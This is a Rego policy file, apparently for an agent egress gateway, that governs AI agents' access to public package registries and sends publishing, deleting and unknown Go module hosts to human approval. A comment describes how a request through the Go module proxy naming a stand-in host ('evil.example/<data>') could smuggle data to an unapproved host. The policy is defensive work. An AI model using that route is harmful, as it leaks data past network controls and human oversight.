# Host presets: named lists of hosts agents may use without a service module (config/data.json
# "host_presets"), switched on with "presets" at the top of the config (every agent) or in an
# agent's entry. The default config defines one, "package_registries": the public npm, PyPI,
# crates.io, Go module proxy, Maven Central and RubyGems registries. Installing is reading
# (allowed); a listed read-only POST (npm's audit) is allowed; publishing is held for a human
# (high risk), deleting/unpublishing with critical risk. No credential is ever injected here.
package airlock

import rego.v1

enabled_presets contains name if {
	some name in object.get(config, "presets", [])
}

enabled_presets contains name if {
	some name in object.get(agent_config, "presets", [])
}

# Presets (enabled or not) that list the request's host.
presets_of_host contains name if {
	some name, preset in object.get(config, "host_presets", {})
	some h in object.get(preset, "hosts", [])
	host_matches(h, input.request.host)
}

preset_host_allowed if {
	some name in presets_of_host
	name in enabled_presets
}

preset_host_request if {
	plain_host_request
	preset_host_allowed
}

preset_label := concat(", ", sort({n | some n in presets_of_host; n in enabled_presets}))

# POSTs a preset declares read-only ("host/path"), e.g. npm's audit: it sends the dependency list
# and gets advisories back.
preset_read_post if {
	request_methods == {"POST"}
	some name in presets_of_host
	name in enabled_presets
	some entry in object.get(config.host_presets[name], "read_posts", [])
	entry == concat("", [input.request.host, input.request.path])
}

verdicts contains allow("preset.read", concat("", [host, " is in host preset ", preset_label, " and ", input.request.method, " only reads"])) if {
	preset_host_request
	reads_only
}

verdicts contains allow("preset.read_post", concat("", ["POST ", host, input.request.path, " only reads (declared read-only by host preset ", preset_label, ")"])) if {
	preset_host_request
	preset_read_post
}

# The Go module proxy and checksum database fetch a module they have not seen from the host its
# path names: `GET proxy.golang.org/evil.example/<data>/@v/list` has the proxy ask
# `https://evil.example/<data>?go-get=1` (then clone what it points to), and
# `sum.golang.org/lookup/evil.example/<data>@v1.0.0` has the database fetch it through the proxy.
# Data in the module path (or in the host's labels) reaches a host nobody allowed, from outside
# Airlock, as it does through a reader (host.fetches_url; sixteenth pass: the fifteenth left it
# open). A module whose host the preset's `module_hosts` names (code hosts, whose answers for a
# made-up path reach no one else, and well-known vanity hosts) goes on; another is held for a human.
# Add your own modules' hosts there.
go_module_host := lower(input.request.segments[0]) if {
	preset_module_fetcher
	input.request.host == "proxy.golang.org"
	count(input.request.segments) > 1
}

go_module_host := lower(split(input.request.segments[1], "@")[0]) if {
	preset_module_fetcher
	input.request.host == "sum.golang.org"
	input.request.segments[0] == "lookup"
	count(input.request.segments) > 1
}

preset_module_fetcher if {
	some name in presets_of_host
	name in enabled_presets
	input.request.host in object.get(config.host_presets[name], "module_fetchers", [])
}

preset_module_host_named(h) if {
	some name in presets_of_host
	name in enabled_presets
	some p in object.get(config.host_presets[name], "module_hosts", [])
	host_matches(p, h)
	not wildcard_spans_owners(lower(p), h) # `*.github.io` names an attacker's host too
}

verdicts contains approve(
	"preset.fetches_module", concat("", [
		input.request.method, " ", host, " names a Go module on ", go_module_host, ", a host no module_hosts entry names: the ",
		"proxy fetches a module it has not seen from that host, so data in the module's path would reach a host nobody ",
		"allowed; a human must approve (add the host to host_presets.package_registries.module_hosts if its modules are yours to use)",
	]),
	"medium",
) if {
	preset_host_request
	h := go_module_host
	not preset_module_host_named(h)
}

# Every method the upstream may run counts (request_methods: the request line's and any override's).
verdicts contains approve("preset.write", concat("", [concat(", ", sort(request_methods)), " to ", host, " publishes or changes something on a registry (host preset ", preset_label, "): a human must approve"]), "high") if {
	preset_host_request
	not reads_only
	not "DELETE" in request_methods
	not preset_read_post
}

verdicts contains approve("preset.delete", concat("", ["DELETE to ", host, " removes something from a registry (host preset ", preset_label, "): a human must approve (critical)"]), "critical") if {
	preset_host_request
	"DELETE" in request_methods
}

# Hosts a preset lists under "raw_path_hosts" get the path as sent: npm names a scoped package
# "/@scope%2fname", an encoded slash that is otherwise refused as a path that can mean two things.
preset_raw_path if {
	preset_host_request
	some name in presets_of_host
	name in enabled_presets
	some h in object.get(config.host_presets[name], "raw_path_hosts", [])
	host_matches(h, input.request.host)
}

# For the host.unknown reason: a listed host whose preset is off says how to switch it on.
default preset_hint := ""

preset_hint := concat("", [
	"; it is in host preset ", concat(", ", sort(presets_of_host)),
	": enable it with \"presets\": [\"", sort(presets_of_host)[0], "\"] in rego/config/data.json and restart Airlock (or publish it from the studio)",
]) if {
	count(presets_of_host) > 0
	not preset_host_allowed
}
